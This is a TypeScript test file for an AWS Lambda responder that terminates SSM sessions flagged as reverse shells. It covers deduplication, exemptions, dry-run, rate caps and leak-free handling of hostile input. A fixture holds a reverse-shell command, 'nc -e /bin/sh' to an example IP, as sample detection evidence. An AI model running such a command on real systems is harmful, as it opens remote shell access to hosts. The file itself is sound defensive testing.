import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { DescribeSessionsCommand, SSMClient, TerminateSessionCommand } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { readEnv } from '#functions/commons/env';
import type { Finding } from '#shared/model/finding';
import { localContext } from '#tools/local-context';
import { reverseShellFinding } from '../format/findings';
import { useDynalite } from '../helpers/dynalite';
import { useLambdaEnv } from '../helpers/lambda-env';
import {
  ALL_PLANTED,
  crashTrace,
  expectSafeError,
  leaks,
  malformedShapes,
  metricSum,
  PLANTED,
  stringPaths,
  thrownBy,
  withStringAt,
} from './hostile';

const ssm = mockClient(SSMClient);
const eb = mockClient(EventBridgeClient);
const db = useDynalite('responder-test');
const output = useLambdaEnv('us-east-1', { BUS_NAME: 'ssm-sentinel-findings' });

beforeEach(() => {
  ssm.reset();
  eb.reset();
  ssm.on(DescribeSessionsCommand, { State: 'Active' }).resolves({ Sessions: [] });
  ssm.on(DescribeSessionsCommand, { State: 'History' }).resolves({ Sessions: [] });
  ssm.on(TerminateSessionCommand).resolves({});
  eb.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'e' }] });
});

/** Load the handler afresh, on an empty table, with this auto-terminate configuration (read at start-up). */
async function loadHandler(autoTerminate: Record<string, unknown>) {
  await db.freshTable('responder');
  vi.stubEnv('SENTINEL_CONFIG', JSON.stringify({ autoTerminate }));
  vi.resetModules();
  const { handler } = await import('#functions/responder/handler');
  // The raw event as EventBridge delivers it: the parser middleware turns it into the handler's input.
  return (event: unknown) => handler(event as Parameters<typeof handler>[0], localContext('responder'));
}

function findingEvent(sessionId: string, extra: Partial<Finding> = {}) {
  const detail = reverseShellFinding({
    id: `f-${sessionId}`,
    region: 'us-east-1',
    sessionId,
    target: 'i-0e57975fb4405c6a9',
    principal: {
      arn: 'arn:aws:sts::111122223333:assumed-role/ContractorAccess/mallory',
      type: 'AssumedRole',
    },
    evidence: [{ kind: 'REVERSE_SHELL', excerpt: 'nc -e /bin/sh 203.0.113.9 ****' }],
    ...extra,
  });
  return {
    version: '0',
    id: 'evt-1',
    'detail-type': 'SSM Sentinel Finding',
    source: 'ssm-sentinel',
    account: '111122223333',
    time: '2026-03-01T12:34:01Z',
    region: 'us-east-1',
    resources: [],
    detail,
  };
}

const terminateInputs = () => ssm.commandCalls(TerminateSessionCommand).map((c) => c.args[0].input);
const published = () =>
  eb
    .commandCalls(PutEventsCommand)
    .flatMap((c) => c.args[0].input.Entries ?? [])
    .map((e) => ({ ...e, Detail: JSON.parse(e.Detail ?? '{}') as Finding }));

describe('responder handler', () => {
  it('terminates once for the same event delivered three times and reports it on the bus', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    const event = findingEvent('mallory-g7ob4wkz5r5f6ky4ng257scvtx');
    for (let i = 0; i < 3; i++) await run(event);
    expect(terminateInputs()).toEqual([{ SessionId: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }]);
    expect(ssm.commandCalls(DescribeSessionsCommand).map((c) => c.args[0].input)).toEqual([
      { State: 'Active', Filters: [{ key: 'SessionId', value: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }] },
      { State: 'History', Filters: [{ key: 'SessionId', value: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }] },
    ]);
    const entries = published();
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({
      EventBusName: 'ssm-sentinel-findings',
      Source: 'ssm-sentinel',
      DetailType: 'SSM Sentinel Finding',
      Detail: {
        category: 'session-terminated',
        source: 'responder',
        sessionId: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx',
      },
    });
    expect(output.text()).toContain('"Terminations"');
  });

  it('delivered concurrently, still terminates once', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    const event = findingEvent('mallory-concurrent0000000000000');
    await Promise.all([run(event), run(event), run(event)]);
    expect(terminateInputs()).toEqual([{ SessionId: 'mallory-concurrent0000000000000' }]);
  });

  it('never terminates an exempt (break-glass) principal', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    const principal = {
      arn: 'arn:aws:sts::111122223333:assumed-role/BreakGlassAdmin/oncall',
      type: 'AssumedRole',
    };
    await run(findingEvent('oncall-0123456789abcdef0', { principal }));
    expect(terminateInputs()).toEqual([]);
    expect(published()).toEqual([]);
    expect(output.text()).toContain('"outcome":"exempt"');
  });

  it('dry-run calls nothing but DescribeSessions and reports what it would have done', async () => {
    const run = await loadHandler({ enabled: true, dryRun: true });
    await run(findingEvent('dry-0123456789abcdef0'));
    expect(terminateInputs()).toEqual([]);
    expect(published().map((e) => e.Detail.title)).toEqual(['Session would have been terminated (dry run)']);
    expect(output.text()).toContain('"TerminationsDryRun"');
  });

  it('stops at the hourly cap', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false, maxPerHour: 2 });
    for (const id of ['cap-a', 'cap-b', 'cap-c', 'cap-d']) await run(findingEvent(`${id}-0123456789abcdef0`));
    expect(terminateInputs()).toHaveLength(2);
    expect(output.text()).toContain('"outcome":"capped"');
  });

  it('skips a session DescribeSessions reports as ended', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    ssm.on(DescribeSessionsCommand, { State: 'History' }).resolves({
      Sessions: [{ SessionId: 'gone-0123456789abcdef0', Status: 'Terminated' }],
    });
    await run(findingEvent('gone-0123456789abcdef0'));
    expect(terminateInputs()).toEqual([]);
    expect(output.text()).toContain('"outcome":"already-ended"');
  });

  it('does nothing while disabled', async () => {
    const run = await loadHandler({});
    await run(findingEvent('off-0123456789abcdef0'));
    expect(ssm.commandCalls(DescribeSessionsCommand)).toHaveLength(0);
    expect(terminateInputs()).toEqual([]);
  });

  it('rejects a malformed event with a one-line reason, a Failed metric and no raw content', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    const bad = findingEvent('bad-0123456789abcdef0', { severity: 'SEVERE' as Finding['severity'] });
    bad.detail.evidence = [{ kind: 'PASSWORD', excerpt: 'Sup3rS3cretValue!' }];
    await expect(run(bad)).rejects.toThrow('malformed finding event: detail.severity:');
    expect(output.text()).toContain('"Failed"');
    expect(output.text()).not.toContain('Sup3rS3cretValue!');
    expect(terminateInputs()).toEqual([]);
  });

  it('retries later when TerminateSession fails (claim released)', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    ssm.on(TerminateSessionCommand).rejectsOnce(new Error('ThrottlingException')).resolves({});
    const event = findingEvent('retry-0123456789abcdef0');
    await expect(run(event)).rejects.toThrow('ThrottlingException');
    await run(event);
    expect(terminateInputs()).toHaveLength(2);
    expect(published()).toHaveLength(1);
  });
});

describe('responder handler on hostile input', () => {
  const busPayload = () => JSON.stringify(eb.commandCalls(PutEventsCommand).map((c) => c.args[0].input));

  it('rejects every malformed shape with a safe one-line error, a log line and a Failed metric', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    const errors: unknown[] = [];
    for (const [name, event] of malformedShapes()) {
      const error = await thrownBy(() => run(event));
      expect(error, name).toBeDefined();
      expectSafeError(error);
      expect((error as Error).name, name).toBe('MalformedEvent');
      errors.push(error);
    }
    expect(output.text().match(/"message":"malformed finding event"/g)).toHaveLength(errors.length);
    expect(metricSum(output.text(), 'Failed')).toBe(errors.length);
    expect(ssm.commandCalls(DescribeSessionsCommand)).toHaveLength(0);
    expect(terminateInputs()).toEqual([]);
    expect(leaks(output.text())).toEqual([]);
    expect(crashTrace(output.text())).toBeUndefined();
  });

  it('acts on a finding with a value planted in any field without carrying the value on', async () => {
    const run = await loadHandler({ enabled: true, dryRun: true, maxPerHour: 1000 });
    const plants = Object.values(PLANTED);
    const paths = stringPaths(findingEvent('x'));
    const errors: unknown[] = [];
    for (const [i, path] of paths.entries()) {
      const plant = plants[i % plants.length] as string;
      for (const [m, f] of [(old: string) => `${old} ${plant}`, () => ALL_PLANTED].entries()) {
        // A session per variant: the termination guard claims each session once.
        const error = await thrownBy(() => run(withStringAt(findingEvent(`eve-${i}-${m}`), path, f)));
        if (error) {
          expectSafeError(error);
          errors.push(error);
        }
      }
    }
    expect(published().length).toBeGreaterThan(paths.length);
    const all = [output.text(), busPayload(), ...errors.map(String)].join('\n');
    expect(leaks(all)).toEqual([]);
    expect(crashTrace(all)).toBeUndefined();
  });

  it('fails with the error name only when SSM fails', async () => {
    const run = await loadHandler({ enabled: true, dryRun: false });
    ssm.on(DescribeSessionsCommand).rejects(
      Object.assign(new Error(`session ${PLANTED.awsKey} unknown`), {
        name: 'InvalidParameterValue',
        $metadata: { httpStatusCode: 400 },
      }),
    );
    const error = await thrownBy(() => run(findingEvent('ssm-fails-0123456789abcdef0')));
    expect(error).toMatchObject({
      name: 'InvalidParameterValue',
      message: 'InvalidParameterValue (HTTP 400)',
    });
    expect(metricSum(output.text(), 'Failed')).toBe(1);
    expect(leaks(output.text())).toEqual([]);
  });
});

describe('readEnv', () => {
  it('fails fast naming the variable and the config key', () => {
    expect(() => readEnv(['TABLE_NAME', 'BUS_NAME'], { BUS_NAME: 'b' })).toThrow(
      'environment variable TABLE_NAME: must be set',
    );
    expect(() =>
      readEnv(['TABLE_NAME'], { TABLE_NAME: 't', SENTINEL_CONFIG: '{"autoTerminate":{"maxPerHour":-1}}' }),
    ).toThrow(/SENTINEL_CONFIG: config key "autoTerminate.maxPerHour"/);
    expect(() => readEnv(['PII_MODE'], { PII_MODE: 'cloud' })).toThrow(
      'environment variable PII_MODE: must be comprehend, local or off',
    );
    expect(() => readEnv([], { SENTINEL_CONFIG: '{not json' })).toThrow(/SENTINEL_CONFIG: .*JSON/);
  });

  it('returns typed values with defaults', () => {
    const env = readEnv(['TABLE_NAME', 'PII_MODE'], { TABLE_NAME: 't' });
    expect(env.TABLE_NAME).toBe('t');
    expect(env.PII_MODE).toBe('comprehend');
    expect(env.config.autoTerminate.enabled).toBe(false);
  });

  it('makes the handler fail at start-up on a bad value', async () => {
    vi.stubEnv('SENTINEL_CONFIG', '{"autoTerminate":{"minSeverity":"URGENT"}}');
    vi.resetModules();
    await expect(import('#functions/responder/handler')).rejects.toThrow(
      /config key "autoTerminate.minSeverity"/,
    );
  });
});
